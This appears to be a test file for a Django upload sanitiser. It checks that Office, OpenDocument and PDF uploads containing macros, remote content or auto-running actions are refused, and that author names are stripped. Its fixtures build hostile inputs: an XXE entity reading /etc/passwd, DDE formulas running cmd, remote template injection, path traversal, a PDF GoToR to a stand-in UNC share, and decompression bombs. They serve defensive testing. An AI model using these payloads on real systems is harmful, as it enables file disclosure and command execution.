"""What may be in a file to take over, and what may not, however it is written; and whose names go."""

import io
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Text
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject

from practices.attachments.checked_files import checked_file

DEMO = Path("practices/data/demo")
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OASIS = "urn:oasis:names:tc:opendocument:xmlns"
ODF = " ".join(
    (
        *(f'xmlns:{name}="{OASIS}:{name}:1.0"' for name in ("office", "text", "script", "table")),
        f'xmlns:draw="{OASIS}:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"',
        'xmlns:dc="http://purl.org/dc/elements/1.1/"',
    )
)


def workbook():
    made = io.BytesIO()
    book = openpyxl.Workbook()
    book.active["A1"] = "Uren"
    book.active["A2"] = "=SUM(A3:A9)"
    book.properties.creator = "An Peeters"
    book.save(made)
    return made.getvalue()


KINDS = {
    "docx": (DEMO / "uitnodiging-fietslessen.docx").read_bytes,
    "odt": (DEMO / "draaiboek-praattafel.odt").read_bytes,
    "xlsx": workbook,
}


def packed(kind, parts):
    made = io.BytesIO(KINDS[kind]())
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as target:
        for name, text in parts.items():
            target.writestr(name, text)
    return made.getvalue()


def relation(attributes):
    return f"<Relationships {PACKAGE}><Relationship Id='r1' {attributes}/></Relationships>"


TEMPLATE = f"Type='{RELATIONS}/attachedTemplate' Target='http://e.example/a.dotm'"
RUNS = [
    *(
        ("docx", "word/_rels/settings.xml.rels", text)
        for text in (
            relation(f"{TEMPLATE} TargetMode='External'"),
            relation(f"{TEMPLATE} TargetMode = 'External'"),
            relation(f"{TEMPLATE} TargetMode='&#69;xternal'"),
            relation(f"x='&gt;' {TEMPLATE} TargetMode='External'"),
            relation(f"Type='{RELATIONS}/attachedTemplate' Target='http://e.example/hyperlink' TargetMode='External'"),
            relation(f"{TEMPLATE} TargetMode='External'")
            .replace("xmlns=", "xmlns:r=")
            .replace("<Rel", "<r:Rel")
            .replace("</Rel", "</r:Rel"),
            ('<?xml version="1.0" encoding="UTF-16"?>' + relation(f"{TEMPLATE} TargetMode='External'")).encode("utf-16"),
            relation(f"Type='{RELATIONS}/oleObject' Target='x.png'"),
            relation(f"Type='{RELATIONS}/aFChunk' Target='x.xml'"),
        )
    ),
    ("docx", "word/x.RELS", relation(f"{TEMPLATE} TargetMode='External'")),
    ("docx", "word/vbaProject.bin", "x"),
    ("docx", "word\\vbaProject.bin", "x"),
    ("docx", "word/stuff/ole1.bin", "x"),
    ("docx", "evil.exe", "MZ"),
    ("docx", "../../evil.xml", "<a/>"),
    ("docx", "/evil.xml", "<a/>"),
    ("docx", "word/x.xml", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    ("docx", "word/x.xml", f"<a {W}><w:instrText>DDEA</w:instrText><w:instrText>UTO cmd</w:instrText></a>"),
    ("docx", "word/x.xml", f'<a {W}><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://e.example&quot;"/></a>'),
    ("docx", "word/x.xml", f"<a {W}><w:altChunk/></a>"),
    ("xlsx", "xl/externalLinks/externalLink1.xml", '<externalLink xmlns="x"><ddeLink ddeService="cmd"/></externalLink>'),
    ("xlsx", "xl/x.xml", "<c xmlns='x'><f>cmd|'/c calc'!A0</f></c>"),
    ("xlsx", "xl/x.xml", '<c xmlns="x"><f>WEBSERVICE("http://e.example")</f></c>'),
    ("xlsx", "xl/_rels/workbook2.xml.rels", relation(f"Type='{RELATIONS}/connections' Target='connections.xml'")),
    *(
        ("odt", "x.xml", f"<office:body {ODF}>{text}</office:body>")
        for text in (
            '<draw:image xlink:href="http://e.example/a.png" xlink:actuate="onLoad"/>',
            '<draw:image xlink:href="//e.example/a.png"/>',
            '<draw:object xlink:href="../elders.odt"/>',
            '<text:section-source xlink:href="file:///etc/passwd"/>',
            '<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:x"/>',
            "<text:dde-connection-decl/>",
            '<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;)"/>',
        )
    ),
    ("odt", "Obj1/ole.bin", "x"),
    ("odt", "Basic/Standard/Module1.xba", "x"),
]


@pytest.mark.parametrize(("kind", "name", "text"), RUNS, ids=[f"{number}-{kind}" for number, (kind, *_) in enumerate(RUNS)])
def test_what_runs_or_is_fetched_is_refused_however_it_is_written(kind, name, text):
    with pytest.raises(ValidationError, match="wordt uitgevoerd of elders"):
        checked_file(SimpleUploadedFile(f"brief.{kind}", packed(kind, {name: text})))


HARMLESS = [
    (
        "docx",
        "word/_rels/x.xml.rels",
        relation(f"Type='{RELATIONS}/hyperlink' Target='https://e.example' TargetMode='External'"),
    ),
    ("docx", "word/x.xml", f"<a {W}><w:instrText>PAGE</w:instrText></a>"),
    ("docx", "word/media/a.png", "x"),
    ("xlsx", "xl/printerSettings/printerSettings1.bin", "x"),
    ("odt", "x.xml", f'<office:body {ODF}><text:a xlink:href="https://e.example">x</text:a></office:body>'),
    ("odt", "x.xml", f'<office:body {ODF}><draw:image xlink:href="Pictures/a.png"/></office:body>'),
]


@pytest.mark.parametrize(("kind", "name", "text"), HARMLESS)
def test_what_people_use_is_kept(kind, name, text):
    kept = checked_file(SimpleUploadedFile(f"brief.{kind}", packed(kind, {name: text})))
    with zipfile.ZipFile(kept) as whole:
        assert name in whole.namelist()


@pytest.mark.parametrize(
    ("kind", "parts"),
    [
        ("docx", {"word/comments.xml": f'<w:comments {W}><w:comment w:author="An Peeters" w:initials="AP"/></w:comments>'}),
        (
            "docx",
            {"docProps/custom.xml": '<Properties xmlns="x"><property name="Owner"><v>An Peeters</v></property></Properties>'},
        ),
        ("odt", {"x.xml": f"<office:annotation {ODF}><dc:creator>An Peeters</dc:creator></office:annotation>"}),
        ("xlsx", {"xl/comments1.xml": "<comments xmlns='x'><authors><author>An Peeters</author></authors></comments>"}),
        ("docx", {"word/media/a.jpg": b"\xff\xd8\xff\xe1\x00\x0cAn Peeters\xff\xda\x00\x02xx"}),
    ],
)
def test_names_of_who_wrote_in_it_go(kind, parts):
    kept = checked_file(SimpleUploadedFile(f"brief.{kind}", packed(kind, parts)))
    with zipfile.ZipFile(kept) as whole:
        assert not [name for name in whole.namelist() if b"An Peeters" in whole.read(name)]


def pdf(change):
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    change(writer)
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def named(**values):
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in values.items()})


def in_root(name, value):
    return lambda writer: writer.root_object.__setitem__(NameObject(f"/{name}"), value)


def hidden_file(writer):
    stream = StreamObject()
    stream.set_data(b"MZ")
    writer.root_object[NameObject("/Names")] = named(X=named(EF=named(F=writer._add_object(stream))))


GO = {"S": NameObject("/GoToR"), "F": TextStringObject("\\\\evil\\share")}


@pytest.mark.parametrize(
    "change",
    [
        lambda writer: writer.add_attachment("x.exe", b"MZ"),
        hidden_file,
        in_root("OpenAction", named(**GO)),
        in_root("OpenAction", named(S=NameObject("/URI"), URI=TextStringObject("http://e.example"))),
        in_root("AA", named(O=named(S=NameObject("/Named")))),
        in_root("X", named(F=named(FS=NameObject("/URL")))),
        lambda writer: in_root("OpenAction", writer._add_object(named(**GO)))(writer),  # said elsewhere
        lambda writer: in_root("X", named(S=writer._add_object(NameObject("/Launch"))))(writer),
    ],
)
def test_a_pdf_that_opens_something_is_refused(change):
    with pytest.raises(ValidationError, match="wordt uitgevoerd of elders"):
        checked_file(SimpleUploadedFile("brief.pdf", pdf(change)))


@pytest.mark.parametrize("where", ["there", "elsewhere"])
@pytest.mark.parametrize("opening", [ArrayObject([NumberObject(0), NameObject("/Fit")]), named(S=NameObject("/GoTo"))])
def test_a_pdf_that_opens_on_a_page_of_its_own_is_kept_and_says_no_names(opening, where):
    def change(writer):
        in_root("OpenAction", opening if where == "there" else writer._add_object(opening))(writer)
        note = Text(text="Nalezen", rect=(10, 10, 20, 20))
        note[NameObject("/T")] = TextStringObject("An Peeters")
        writer.add_annotation(0, note)
        writer.add_metadata({"/Author": "An Peeters"})

    kept = checked_file(SimpleUploadedFile("brief.pdf", pdf(change)))
    assert b"An Peeters" not in kept.read()
    kept.seek(0)
    assert PdfReader(kept).pages[0]["/Annots"][0].get_object()["/Contents"] == "Nalezen"


SLOW = {
    "many names in a relation": ("docx", "word/_rels/x.xml.rels", "<Relationship " * 20_000),
    "names without an end": ("odt", "meta.xml2.xml", "<dc:creator>" * 20_000),
}


@pytest.mark.parametrize("name", SLOW)
def test_what_is_no_xml_is_said_at_once(name):
    kind, part, text = SLOW[name]
    with pytest.raises(ValidationError, match="niet te lezen"):
        checked_file(SimpleUploadedFile(f"brief.{kind}", packed(kind, {part: text})))


@pytest.mark.parametrize("streams", [1, 5])
def test_a_pdf_that_unpacks_to_more_than_a_letter_is_not_read(streams):
    size = 30 // streams * 1024**2
    stream = b"<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode >>\nstream\n" + zlib.compress(b" " * size)
    with pytest.raises(ValidationError, match="niet te lezen"):
        checked_file(
            SimpleUploadedFile("brief.pdf", b"%PDF-1.7\n" + (b"1 0 obj\n" + stream + b"\nendstream\nendobj\n") * streams)
        )
